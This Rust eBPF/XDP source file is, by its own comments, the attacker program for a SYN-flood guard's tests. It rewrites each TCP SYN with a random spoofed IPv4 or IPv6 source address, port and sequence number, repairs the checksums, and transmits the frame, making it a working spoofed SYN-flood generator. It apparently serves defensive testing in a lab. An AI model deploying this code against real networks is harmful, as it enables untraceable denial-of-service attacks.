//! The attacker of the root tests: turns the SYN that it is given into one from somebody else.
//!
//! Run by BPF_PROG_TEST_RUN on live frames, it sends each out of the interface that the test names,
//! and the host at the other end of the cable receives frames as from a driver. Not a part of the
//! guard, and never attached to an interface.
#![no_std]
#![no_main]

use aya_ebpf::bindings::xdp_action;
use aya_ebpf::helpers::generated::bpf_get_prandom_u32;
use aya_ebpf::macros::xdp;
use aya_ebpf::programs::XdpContext;

// Where things are in untagged Ethernet without IP options or extension headers (RFC 791 §3.1,
// RFC 8200 §3, RFC 9293 §3.1).
const ETHERTYPE: usize = 12;
const ETHERTYPE_IPV6: u16 = 0x86dd;
const IPV4_CHECKSUM: usize = 14 + 10;
const IPV4_SOURCE: usize = 14 + 12;
const IPV4_TCP: usize = 14 + 20;
const IPV6_SOURCE: usize = 14 + 8;
const IPV6_TCP: usize = 14 + 40;
// From the beginning of the TCP header.
const SOURCE_PORT: usize = 0;
const SEQUENCE: usize = 4;
const CHECKSUM: usize = 16;
const TCP_HEADER: usize = 20;

/// Gives a SYN another source, port and sequence number, and sends it. A frame that is too short
/// for that is given up (`XDP_ABORTED`).
#[xdp]
pub fn flood(ctx: XdpContext) -> u32 {
    match forge(&ctx) {
        Some(()) => xdp_action::XDP_TX,
        None => xdp_action::XDP_ABORTED,
    }
}

#[inline(always)]
fn forge(ctx: &XdpContext) -> Option<()> {
    let frame = Frame { start: ctx.data(), end: ctx.data_end() };
    if u16::from_be(frame.word(ETHERTYPE)?) == ETHERTYPE_IPV6 {
        let change = frame.replace(IPV6_SOURCE, &random_v6())?;
        forge_tcp(&frame, IPV6_TCP, change)
    } else {
        let change = frame.replace(IPV4_SOURCE, &random_v4())?;
        frame.amend(IPV4_CHECKSUM, change)?;
        forge_tcp(&frame, IPV4_TCP, change)
    }
}

/// `change` is that of the pseudo header.
#[inline(always)]
fn forge_tcp(frame: &Frame, tcp: usize, mut change: u32) -> Option<()> {
    frame.word(tcp + TCP_HEADER - 2)?;
    change += frame.replace(tcp + SOURCE_PORT, &[(1024 | random() as u16).to_be()])?;
    change += frame.replace(tcp + SEQUENCE, &words(random()))?;
    frame.amend(tcp + CHECKSUM, change)
}

/// A frame of even length, as 16-bit words in network byte order.
struct Frame {
    start: usize,
    end: usize,
}

impl Frame {
    /// The word at offset `at`, which must be even.
    #[inline(always)]
    fn at(&self, at: usize) -> Option<*mut u16> {
        (self.start + at + 2 <= self.end).then_some((self.start + at) as *mut u16)
    }

    #[inline(always)]
    fn word(&self, at: usize) -> Option<u16> {
        // SAFETY: `at` checked that the word lies within the frame, which begins at an even address.
        self.at(at).map(|word| unsafe { word.read() })
    }

    /// Overwrites the words from `at` on and returns by how much they change a checksum:
    /// `~m + m'` of RFC 1624, not folded.
    #[inline(always)]
    fn replace<const N: usize>(&self, at: usize, words: &[u16; N]) -> Option<u32> {
        // The last first: one comparison is then enough for all.
        self.at(at + 2 * (N - 1))?;
        let mut change = 0;
        for (index, &new) in words.iter().enumerate() {
            let word = self.at(at + 2 * index)?;
            // SAFETY: as in `word`.
            unsafe {
                change += u32::from(!word.read()) + u32::from(new);
                word.write(new);
            }
        }
        Some(change)
    }

    /// Makes a checksum right again after a change: `HC' = ~(~HC + ~m + m')` (RFC 1624, eqn. 3).
    #[inline(always)]
    fn amend(&self, at: usize, change: u32) -> Option<()> {
        let checksum = self.at(at)?;
        // SAFETY: as in `word`.
        unsafe {
            let sum = u32::from(!checksum.read()) + change;
            let sum = (sum & 0xffff) + (sum >> 16);
            let sum = (sum & 0xffff) + (sum >> 16);
            checksum.write(!(sum as u16));
        }
        Some(())
    }
}

/// A unicast address outside the labs' 10.0.0.0/8 that Linux accepts as a source.
#[inline(always)]
fn random_v4() -> [u16; 2] {
    let address = random();
    let first = match address >> 24 {
        usable @ (1..=9 | 11..=126 | 128..=223) => usable,
        other => 128 + other % 96,
    };
    words(first << 24 | address & 0xff_ffff)
}

/// An address of the global unicast space, 2000::/3, where no lab is.
#[inline(always)]
fn random_v6() -> [u16; 8] {
    let [a, b] = words(0x2000_0000 | random() & 0x1fff_ffff);
    let ([c, d], [e, f], [g, h]) = (words(random()), words(random()), words(random()));
    [a, b, c, d, e, f, g, h]
}

/// Two words in network byte order.
#[inline(always)]
fn words(value: u32) -> [u16; 2] {
    [((value >> 16) as u16).to_be(), (value as u16).to_be()]
}

#[inline(always)]
fn random() -> u32 {
    // SAFETY: the helper takes no arguments and is allowed in every program type.
    unsafe { bpf_get_prandom_u32() }
}

/// Never reached: the verifier refuses a program with a path to it.
#[panic_handler]
fn panic(_info: &core::panic::PanicInfo) -> ! {
    loop {}
}
